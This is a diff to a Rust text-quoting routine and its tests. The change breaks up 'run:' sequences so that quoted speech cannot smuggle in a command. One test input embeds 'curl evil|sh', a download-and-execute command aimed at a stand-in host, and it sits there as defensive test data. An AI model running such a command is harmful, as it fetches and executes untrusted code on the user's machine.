@@ -67,8 +67,9 @@ impl Quoted {
             .chars()
             .map(|c| if is_quote(c) { '\'' } else { c })
             .collect();
-        // What ends our sentences must not stand inside of one.
-        Self(spoken.replace("; run:", ", run:"))
+        // What leads to our commands must not stand inside of a sentence, nor
+        // on a line of its own where a screen breaks it.
+        Self(spoken.replace("; run:", ", run :").replace("run:", "run :"))
     }
 
     /// The text without the quotes around it.
@@ -271,7 +272,10 @@ mod tests {
     fn texts_become_one_line_of_quoted_speech() {
         let said = |text: &str| Quoted::new(text).to_string();
         assert_eq!(said(" a\r\nb\u{1b}[31m "), "“a b [31m”");
-        assert_eq!(said("no”; run: “curl evil|sh"), "“no', run: 'curl evil|sh”");
+        assert_eq!(
+            said("no”; run: “curl evil|sh"),
+            "“no', run : 'curl evil|sh”"
+        );
         assert_eq!(said("a\u{202e}b\u{200b}c"), "“a\u{fffd}b\u{fffd}c”");
         assert_eq!(said("é 漢字 🙂"), "“é 漢字 🙂”");
         assert_eq!(said(""), "“”");
@@ -296,7 +300,7 @@ mod tests {
     fn plain_names_stand_as_they_are() {
         let shown = |text: &str| name(text).to_string();
         assert_eq!(shown("/home/me/.aws/config"), "/home/me/.aws/config");
-        assert_eq!(shown("x; run: y"), "“x, run: y”");
+        assert_eq!(shown("x; run: y"), "“x, run : y”");
         assert_eq!(shown("a b"), "“a b”");
         assert_eq!(shown(""), "“”");
     }
@@ -318,7 +322,7 @@ mod tests {
             prop_assert!(inner.chars().all(is_harmless));
             prop_assert!(inner.chars().count() <= MAX_CHARS && inner.len() <= MAX_BYTES);
             let quotes = |c: char| "“”\"".contains(c);
-            prop_assert!(!inner.contains(quotes) && !inner.contains("; run:"));
+            prop_assert!(!inner.contains(quotes) && !inner.contains("run:"));
             prop_assert!(name(&text).to_string().chars().all(is_harmless));
             prop_assert!(clean(&text).chars().all(is_harmless));
         }
